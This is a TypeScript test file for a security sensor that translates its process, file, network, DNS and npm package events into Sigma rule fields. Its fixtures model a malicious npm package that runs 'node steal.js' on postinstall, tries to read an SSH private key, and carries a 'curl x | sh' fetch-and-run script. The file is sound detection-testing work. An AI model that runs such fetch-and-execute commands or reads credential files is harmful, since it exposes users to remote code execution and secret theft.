import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { nativeFields, NativeEvent } from '../../../rules/taxonomy/native.ts';
import { completeEvent } from '../../../rules/testing/complete.ts';

function native(partial: Record<string, unknown>): NativeEvent {
  const event = completeEvent(partial, 0);
  if (typeof event === 'string') assert.fail(event);
  return new NativeEvent(event);
}

const process = {
  image: '/usr/bin/node',
  commandLine: 'node steal.js',
  workingDirectory: '/home/dev/app/node_modules/evil',
  pid: 7,
  ancestors: [
    { image: '/bin/sh', commandLine: 'sh -c node steal.js', pid: 6 },
    { image: '/usr/bin/npm', commandLine: 'npm install', pid: 5 },
  ],
  lineage: { class: 'L', tree: 'boot-5-1', lifecycle: 'postinstall', manager: 'npm' },
};

describe('our events in Sigma’s words', () => {
  const cases: readonly (readonly [
    partial: Record<string, unknown>,
    source: string,
    fields: Record<string, unknown>,
  ])[] = [
    [
      { kind: 'process', action: 'exec', process },
      'linux process_creation',
      {
        Image: '/usr/bin/node',
        CommandLine: 'node steal.js',
        CurrentDirectory: '/home/dev/app/node_modules/evil',
        ProcessId: 7,
        ParentImage: '/bin/sh',
        ParentCommandLine: 'sh -c node steal.js',
        ParentProcessId: 6,
        User: 'dev',
        'ancestors.Image': ['/bin/sh', '/usr/bin/npm'],
        'ancestors.CommandLine': ['sh -c node steal.js', 'npm install'],
        'lineage.class': 'L',
        'lineage.lifecycle': 'postinstall',
        'lineage.manager': 'npm',
        'lineage.via': 'environment',
        'tree.id': 'boot-5-1',
        TargetFilename: undefined,
        'package.name': undefined,
        nonsense: undefined,
      },
    ],
    [{ kind: 'process', action: 'exit', exitCode: 3, process }, 'linux process_termination', { ExitCode: 3 }],
    [{ kind: 'process', action: 'fork', process }, 'linux process_fork', {}],
    [
      {
        kind: 'file',
        action: 'open',
        path: '/home/dev/.ssh/id',
        secret: { place: 'ssh-key', tier: 'A', group: 'ssh', kind: 'private-key', expectedReader: false },
        verdict: 'denied',
        package: { name: 'evil', version: '1.0.1' },
      },
      'linux file_access',
      {
        TargetFilename: '/home/dev/.ssh/id',
        FileName: '/home/dev/.ssh/id',
        'secret.place': 'ssh-key',
        'secret.tier': 'A',
        'secret.group': 'ssh',
        'secret.kind': 'private-key',
        'secret.expectedReader': false,
        verdict: 'denied',
        'package.purl': 'pkg:npm/evil@1.0.1',
        'package.confidence': 'exact',
        Image: undefined,
      },
    ],
    [{ kind: 'file', action: 'write', path: '/a' }, 'linux file_event', {}],
    [{ kind: 'file', action: 'create', path: '/a' }, 'linux file_event', {}],
    [{ kind: 'file', action: 'delete', path: '/a' }, 'linux file_delete', {}],
    [
      { kind: 'file', action: 'rename', path: '/b', from: '/a' },
      'linux file_rename,file_event',
      { SourceFilename: '/a' },
    ],
    [
      {
        kind: 'connection',
        direction: 'outbound',
        protocol: 'tcp',
        address: '203.0.113.9',
        port: 443,
        process,
      },
      'linux network_connection',
      {
        DestinationIp: '203.0.113.9',
        DestinationPort: 443,
        Protocol: 'tcp',
        Initiated: true,
        DestinationHostname: undefined,
      },
    ],
    [
      { kind: 'connection', direction: 'inbound', protocol: 'udp', address: '::1', port: 1 },
      '* network_connection',
      { Initiated: false },
    ],
    [
      { kind: 'dns', query: 'evil.example', answers: ['192.0.2.1', '192.0.2.2'] },
      '* dns_query',
      {
        QueryName: 'evil.example',
        QueryType: 'A',
        QueryResults: ['192.0.2.1', '192.0.2.2'],
        Initiated: undefined,
      },
    ],
    [
      {
        kind: 'package',
        action: 'added',
        manager: 'npm',
        package: { name: 'evil', version: '1.0.1' },
        scripts: { preinstall: 'node a.js', postinstall: 'curl x | sh' },
        intel: [{ id: 'MAL-1', summary: 's', source: 'osv' }],
      },
      'linux package_change',
      {
        'package.action': 'added',
        'package.manager': 'npm',
        'package.scripts': ['node a.js', 'curl x | sh'],
        'package.intel': ['MAL-1'],
        'package.intel.source': ['osv'],
      },
    ],
    [
      { kind: 'shell', shell: 'zsh', line: 'curl x | sh', historyFile: '/Users/dev/.zsh_history' },
      'macos shell_history',
      { 'shell.line': 'curl x | sh', 'shell.name': 'zsh' },
    ],
    [
      { kind: 'loss', cause: 'queue-overflow', lost: 3, credentialPath: true },
      '* sensor_loss',
      { 'loss.cause': 'queue-overflow', 'loss.lost': 3, 'loss.credentialPath': true },
    ],
    [{ kind: 'file', action: 'open', path: 'C:\\Users\\dev\\.npmrc' }, 'windows file_access', {}],
    [{ kind: 'file', action: 'open', path: '/Users/dev/.npmrc' }, 'macos file_access', {}],
  ];
  for (const [partial, source, fields] of cases)
    it(`${JSON.stringify([partial['kind'], partial['action']])} is ${source}`, () => {
      const event = native(partial);
      assert.equal(`${event.source.product} ${String(event.source.category)}`, source);
      for (const [name, value] of Object.entries(fields)) assert.deepEqual(event.field(name), value, name);
    });

  it('offers all values to keywords', () => {
    const values = [...native({ kind: 'shell', shell: 'bash', line: 'a line', historyFile: '/h' }).values()];
    assert.ok(values.includes('a line'));
  });

  it('are documented field by field', () => {
    const page = readFileSync('docs/writing-rules.md', 'utf8');
    const names = new Set(Object.values(nativeFields).flatMap((fields) => Object.keys(fields)));
    const missing = [...names, 'Initiated'].filter((name) => !page.includes(`\`${name}\``));
    assert.deepEqual(missing, []);
  });
});
